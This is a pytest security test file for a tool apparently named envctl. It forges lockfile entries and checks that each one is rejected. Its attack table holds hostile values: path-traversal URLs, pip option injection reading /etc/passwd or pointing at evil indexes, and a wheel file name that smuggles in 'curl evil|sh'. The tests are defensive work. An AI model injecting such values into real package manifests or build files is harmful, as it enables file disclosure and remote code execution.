"""Issue #22 items 1, 2 and 7: a lockfile is untrusted input.

Each attack edits a real lock of the fixture-pip project and recomputes the header's hash as an
attacker would (``envctl.lock.state.body_hash``), so the lock reads as current and intact.  Every
command that turns a lock into files or pip lines must then answer one line and exit 2, and
write nothing outside its own roots: the whole temporary tree is listed before and after.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path
from typing import Callable

import pytest
import yaml

from envctl.errors import MAX_LINE
from envctl.lock.state import body_hash
from tests.faults.conftest import assert_one_line_error, envctl

NAME = "fixture-pip"
MPMATH = "/opt/pypi/files/mpmath-1.3.0-py3-none-any.whl"


def forge(lock: Path, mutate: Callable[[dict], None]) -> None:
    """Edit the lock's body and write the header hash that matches the edit: what anyone can do."""
    lines = lock.read_text().splitlines(keepends=True)
    n = next(i for i, line in enumerate(lines) if not line.startswith("#"))
    data = yaml.safe_load("".join(lines[n:]))
    mutate(data)
    body = yaml.safe_dump(data, sort_keys=False, default_flow_style=False)
    header = [f"# lock hash: {body_hash(body)}\n" if line.startswith("# lock hash:") else line for line in lines[:n]]
    lock.write_text("".join(header) + body)


@pytest.fixture
def world(pip_project, tmp_path) -> dict:
    """A copy of the fixture-pip project with its own cache, records and TMPDIR, deep enough in
    ``tmp_path`` that the old traversals (four '..') landed inside it, where the test sees them."""
    root = tmp_path / "world"
    shutil.copytree(Path(pip_project["ENVCTL_PROJECT"]) / "images", root / "project" / "images")
    shutil.copytree(Path(pip_project["ENVCTL_PROJECT"]) / "locks", root / "project" / "locks")
    tmp = root / "t1" / "t2" / "t3" / "t4"
    tmp.mkdir(parents=True)
    env = {"ENVCTL_PROJECT": str(root / "project"), "ENVCTL_CACHE": str(root / "cache"),
           "ENVCTL_RECORDS": str(root / "records.db"), "TMPDIR": str(tmp), "ENVCTL_MIRRORS": ""}
    return {"root": root, "env": env, "lock": root / "project" / "locks" / f"{NAME}.conda-lock.yml"}


def _traversal(entry: dict, root: Path) -> None:
    """The attacker's wheel lies where the decoded URL points; its name climbs out of any folder."""
    evil = root / "evil"
    (evil / "x" / "y" / "z" / "w").mkdir(parents=True)
    shutil.copyfile(MPMATH, evil / "PWNED-trav-mpmath-1.3.0-py3-none-any.whl")
    entry["url"] = f"file://{evil}/x/y/z/w/..%2F..%2F..%2F..%2FPWNED-trav-mpmath-1.3.0-py3-none-any.whl"
    entry["hash"]["sha256"] = hashlib.sha256(Path(MPMATH).read_bytes()).hexdigest()


def _set(key: str, value) -> Callable[[dict, Path], None]:
    def mutate(entry: dict, _root: Path) -> None:
        if key == "sha256":
            entry["hash"]["sha256"] = value
        else:
            entry[key] = value
    return mutate


ATTACKS = {  # id -> (how the mpmath entry is forged, what the one error line says)
    "url-traversal": (_traversal, "does not end in a plain wheel"),
    "sha256-traversal": (_set("sha256", "../../../PWNED-shatrav"), "hash.sha256 '../../../PWNED-shatrav'"),
    "name-injection": (_set("name", "mpmath\n-r /etc/passwd\n#"), "is not a PEP 503 package name"),
    "version-injection": (_set("version", "1.3.0\n--find-links /tmp/evilpkg\n#"), "is not a PEP 440 version"),
    "version-whitespace": (_set("version", " 1.3.0 "), "is not a PEP 440 version"),
    "url-absolute-name": (_set("url", "file:///opt/pypi/files/%2Ftmp%2FPWNED-abs-mpmath-1.3.0-py3-none-any.whl"),
                          "does not end in a plain wheel"),
    "url-backslash": (_set("url", "file:///opt/pypi/files/..\\..\\PWNED-mpmath-1.3.0-py3-none-any.whl"),
                      "no space or backslash"),
    "url-nul": (_set("url", "file:///opt/pypi/files/PWNED%00mpmath-1.3.0-py3-none-any.whl"),
                "does not end in a plain wheel"),
    "url-control-escape": (_set("url", "file:///opt/pypi/files/mpmath-1.3.0-py3-none-any.whl\x1b[2J"),
                           "printable ASCII"),
    "url-bad-percent": (_set("url", "file:///opt/pypi/files/%zzmpmath-1.3.0-py3-none-any.whl"),
                        "does not end in a plain wheel"),
    "url-other-package": (_set("url", "file:///opt/pypi/files/pip-26.2.1-py3-none-any.whl"),
                          "is not a wheel of mpmath 1.3.0"),
    "url-scheme": (_set("url", "ftp://example.org/mpmath-1.3.0-py3-none-any.whl"), "URL"),
    "url-ipv6": (_set("url", "http://[::1/mpmath-1.3.0-py3-none-any.whl"), "is not a URL"),
    "url-sdist": (_set("url", "file:///opt/pypi/files/mpmath-1.3.0.tar.gz"), "does not end in a plain wheel"),
    "name-integer": (_set("name", 42), "name 42 is not a PEP 503 package name"),
    "url-integer": (_set("url", 7), "url 7 is not a URL"),
    "dependencies-list": (_set("dependencies", ["numpy"]), "dependencies is not a mapping"),
    "hash-not-mapping": (_set("hash", "sha256:abc"), "hash.sha256 None"),
    "platform-list": (_set("platform", ["linux-64"]), "is not a platform name"),
    "dependency-option": (_set("dependencies", {"markupsafe --index-url https://evil": ">=2.0"}),
                          "is not a package name with a version specifier"),
    "dependency-spec-option": (_set("dependencies", {"markupsafe": ">=2.0 --find-links /tmp"}),
                               "is not a package name with a version specifier"),
    "url-credentials": (_set("url", "https://user:s3cret@evil.example/mpmath-1.3.0-py3-none-any.whl"),
                        "carries credentials"),
}

COMMANDS = {  # id -> the command line, given the world's root
    "setup": lambda root: ["setup", NAME, "--prefix", str(root / "pp" / "prefix"), "--no-probe"],
    "cache-export": lambda root: ["cache", "export", NAME, str(root / "ep" / "export")],
    "export-requirements": lambda root: ["export", NAME, "--format", "requirements"],
    "build-dry-run": lambda root: ["build", NAME, "--dry-run"],
}


def _files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_forged_lock_is_one_line_and_writes_nothing_outside_its_roots(world, attack, tmp_path):
    mutate, needle = ATTACKS[attack]
    root = world["root"]
    forge(world["lock"], lambda data: mutate(data["package"][0], root))
    before = _files(tmp_path)
    for command, argv in COMMANDS.items():
        proc = envctl(*argv(root), env=world["env"])
        line = assert_one_line_error(proc, 2, f"{world['lock']} is not a valid conda-lock file: package[0]", needle)
        assert "root:x:0:0" not in proc.stderr + proc.stdout, command  # /etc/passwd never read into a message
        assert "--find-links" not in proc.stdout and "mpmath==" not in proc.stdout, (command, proc.stdout)
        assert len(line) <= len("error: ") + MAX_LINE, line
    new = _files(tmp_path) - before
    cache = root / "cache"
    assert [p for p in new if not p.is_relative_to(cache) and p != root / "records.db"] == []
    assert not (cache / "sha256").exists()  # not a byte of a forged lock's packages was fetched
    assert [p for p in _files(tmp_path) if "PWNED" in p.name and p.parent != root / "evil"] == []
    assert list(Path("/").glob("PWNED*")) == [] and list(Path("/tmp").glob("PWNED*")) == []
    assert not (root / "pp" / "prefix").exists() and not (root / "ep" / "export").exists()


def test_an_honest_lock_still_sets_up_and_exports(world):
    """The grammar refuses nothing envctl itself writes: the untouched fixture lock goes through."""
    root = world["root"]
    proc = envctl("export", NAME, "--format", "requirements", env=world["env"])
    assert proc.returncode == 0, proc.stderr
    assert "mpmath==1.3.0 --hash=sha256:" in proc.stdout
    proc = envctl("cache", "export", NAME, str(root / "ep" / "export"), env=world["env"])
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in (root / "ep" / "export").iterdir()) == [
        "envctl-mirror.json", "mpmath-1.3.0-py3-none-any.whl", "pip-26.2.1-py3-none-any.whl"]


CONDA = {"name": "zlibx", "version": "1.3.0", "manager": "conda", "platform": "linux-64", "dependencies": {},
         "url": "https://conda.example.org/forge/linux-64/zlibx-1.3.0-h0a1b2c3_0.conda",
         "hash": {"md5": "0" * 32, "sha256": "1" * 64}, "build": "h0a1b2c3_0", "category": "main",
         "optional": False}

CONDA_ATTACKS = {  # id -> (fields of the forged conda entry, what the error says)
    "build-injection": ({"build": "h0a1b2c3_0\n--override-channels"}, "is not a conda build string"),
    "version-dash": ({"version": "1.3.0-evil"}, "is not a conda version"),
    "name-slash": ({"name": "../zlibx"}, "is not a conda package name"),
    "md5-short": ({"hash": {"md5": "abc", "sha256": "1" * 64}}, "hash.md5 'abc' is not 32 lowercase hex"),
    "sha256-upper": ({"hash": {"md5": "0" * 32, "sha256": "A" * 64}}, "is not 64 lowercase hex"),
    "filename-traversal": ({"url": "https://conda.example.org/linux-64/..%2F..%2Fzlibx-1.3.0-h0a1b2c3_0.conda"},
                           "does not end in a plain wheel"),
    "filename-other": ({"url": "https://conda.example.org/linux-64/zlibx-1.2.0-h0a1b2c3_0.conda"},
                       "is not zlibx-1.3.0-h0a1b2c3_0.conda"),
    "filename-hidden": ({"url": "https://conda.example.org/linux-64/.zlibx-1.3.0-h0a1b2c3_0.conda"},
                        "does not end in a plain wheel"),
}


def test_an_honest_conda_entry_loads(world):
    from envctl.lock import load_lock

    forge(world["lock"], lambda data: data["package"].insert(0, dict(CONDA)))
    (pkg,) = load_lock(world["lock"]).conda
    assert (pkg.filename, pkg.subdir, pkg.build) == ("zlibx-1.3.0-h0a1b2c3_0.conda", "linux-64", "h0a1b2c3_0")


@pytest.mark.parametrize("attack", sorted(CONDA_ATTACKS))
def test_forged_conda_entry_is_refused_where_the_lock_is_read(world, attack):
    from envctl.lock import load_lock
    from envctl.lock.grammar import LockfileError

    fields, needle = CONDA_ATTACKS[attack]
    forge(world["lock"], lambda data: data["package"].insert(0, {**CONDA, **fields}))
    with pytest.raises(LockfileError, match=r"package\[0\] \(.*\): ") as caught:
        load_lock(world["lock"])
    assert needle in str(caught.value) and caught.value.exit_code == 2


def _pkg(**fields):
    from envctl.lock.pins import PipPackage

    base = {"name": "mpmath", "version": "1.3.0", "url": f"file://{MPMATH}",
            "sha256": hashlib.sha256(Path(MPMATH).read_bytes()).hexdigest(),
            "filename": "mpmath-1.3.0-py3-none-any.whl", "requested": False}
    return PipPackage(**{**base, **fields})


@pytest.mark.parametrize("fields", [{"sha256": "../../../PWNED-shatrav"}, {"filename": "../../PWNED.whl"},
                                    {"filename": "/tmp/PWNED-abs.whl"}, {"filename": ""}])
def test_cache_and_export_refuse_a_path_outside_their_root(tmp_path, fields):
    """Defence in depth: a package that never passed load_lock still cannot leave the cache or
    the export folder."""
    from envctl.cache import PackageCache, export_mirror
    from envctl.lock.grammar import LockfileError

    p = _pkg(**fields)
    cache = PackageCache(tmp_path / "world" / "cache", mirrors=())
    with pytest.raises(LockfileError, match="refusing to write .*: it is outside "):
        cache.get(url=p.url, sha256=p.sha256, filename=p.filename)
    with pytest.raises(LockfileError, match="refusing to write"):
        export_mirror(cache, [(p.url, p.sha256, p.filename)], tmp_path / "world" / "export")
    assert [f for f in tmp_path.rglob("*") if f.is_file()] == []


@pytest.mark.parametrize("fields", [{"name": "mpmath\n-r /etc/passwd\n#"}, {"version": "1.3.0 --find-links /tmp/x"},
                                    {"sha256": "0" * 63 + "\n"}])
def test_requirements_lines_refuse_what_is_not_a_pin(fields):
    """The writers of pip's lines check again, behind load_lock's check."""
    from envctl.build import requirements_txt
    from envctl.lock import LockedEnv
    from envctl.lock.grammar import LockfileError

    lock = LockedEnv(name="x", platform="linux-64", inputs_hash="", lock_hash="", conda=[], pip=[_pkg(**fields)])
    with pytest.raises(LockfileError, match="refusing to write the requirement"):
        requirements_txt(lock)
    assert requirements_txt(LockedEnv(name="x", platform="linux-64", inputs_hash="", lock_hash="", conda=[],
                                      pip=[_pkg()])).startswith("mpmath==1.3.0 --hash=sha256:")


def test_export_and_dockerfile_writers_refuse_what_is_not_a_package():
    """environment.yml, explicit files and the Dockerfile's RUN lines check again what they write."""
    from envctl.lock.grammar import LockfileError, conda_pin, explicit_line

    assert conda_pin("zlibx", "1.3.0", "h0_0") == "zlibx=1.3.0=h0_0"
    assert explicit_line(CONDA["url"], "0" * 32) == CONDA["url"] + "#" + "0" * 32
    with pytest.raises(LockfileError, match="refusing to write the conda package"):
        conda_pin("zlibx", "1.3.0", "h0_0\n- evil")
    with pytest.raises(LockfileError, match="refusing to write an explicit line"):
        explicit_line("https://x.example/linux-64/zlibx-1.3.0-h0_0.conda\nhttps://evil/x.conda", "0" * 32)
    with pytest.raises(LockfileError, match="md5"):
        explicit_line(CONDA["url"], "0" * 31)


def test_the_dockerfile_refuses_a_pip_wheel_that_is_no_file_name(project):
    from envctl.build import plan_build
    from envctl.catalog import Project
    from envctl.lock import load_lock
    from envctl.lock.grammar import LockfileError

    p = Project(project)
    spec = p.resolve("pytorch-2.13-cpu")
    lock = load_lock(p.lock_path(spec.name))
    plan_build(spec, lock, project=p)  # the honest lock plans
    pip = [_pkg(name="pip", version="26.2.1", filename="pip-26.2.1-py3-none-any.whl;curl evil|sh")]
    forged = type(lock)(**{**lock.__dict__, "pip": [q for q in lock.pip if q.name != "pip"] + pip})
    with pytest.raises(LockfileError, match="refusing to run pip from"):
        plan_build(spec, forged, project=p)
